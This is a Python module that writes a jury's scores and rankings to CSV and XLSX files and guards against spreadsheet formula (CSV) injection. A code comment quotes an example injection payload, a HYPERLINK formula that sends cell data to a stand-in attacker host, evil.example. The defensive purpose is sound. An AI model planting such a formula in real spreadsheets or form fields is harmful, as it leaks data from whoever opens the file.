"""The jury's scores and ranking as files: CSV (Excel-friendly: BOM and semicolons) and XLSX, with no text a
spreadsheet would run as a formula (pure: rows in, bytes out)."""

import csv
import io
from collections.abc import Sequence
from dataclasses import astuple, dataclass

from openpyxl import Workbook
from openpyxl.utils import get_column_letter


@dataclass(frozen=True)
class ScoreRow:
    """One juror × badge × criterion."""

    juror: str
    team: str
    badge: str
    criterion: str
    weight: float
    value: int | None  # None: not scored (or recused)
    recused: bool


@dataclass(frozen=True)
class RankingRow:
    rank: int | None
    tied: bool
    team: str
    badge: str
    score: float | None
    raw_rank: int | None
    raw_score: float | None
    jurors: int
    spread: float | None


# A cell starting with one of these is a formula to Excel or LibreOffice (OWASP, "CSV injection"): a badge named
# '=HYPERLINK("http://evil.example/?leak="&A2;"…")' would run on the organiser's computer.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value):
    """A text a spreadsheet would read as a formula, made inert with a leading quote; any other value (numbers,
    negative ones included) as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _table(headers: Sequence[str], rows: Sequence) -> list[list]:
    return [[neutralised(value) for value in line] for line in [list(headers)] + [astuple(row) for row in rows]]


def _cell(value, yes: str, no: str):
    if value is None:
        return ""
    if isinstance(value, bool):
        return yes if value else no
    if isinstance(value, float):
        return f"{value:.3f}".replace(".", ",")  # French Excel reads a decimal comma
    return value


def to_csv(headers: Sequence[str], rows: Sequence, *, yes: str = "oui", no: str = "non") -> bytes:
    """A CSV that French Excel opens as is: UTF-8 with a BOM, semicolons; yes/no in words."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for line in _table(headers, rows):
        writer.writerow([_cell(value, yes, no) for value in line])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def to_xlsx(sheets: Sequence[tuple[str, Sequence[str], Sequence]]) -> bytes:
    """One worksheet per (title, headers, rows), headers in bold and frozen, columns sized to their content."""
    from openpyxl.styles import Font

    book = Workbook()
    book.remove(book.active)
    for title, headers, rows in sheets:
        sheet = book.create_sheet(title[:31])
        for line in _table(headers, rows):
            sheet.append(line)
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # a text, never a formula, whatever it starts with
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        sheet.freeze_panes = "A2"
        for index, column in enumerate(sheet.columns, start=1):
            width = max(len(str(cell.value)) if cell.value is not None else 0 for cell in column)
            sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), 60)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
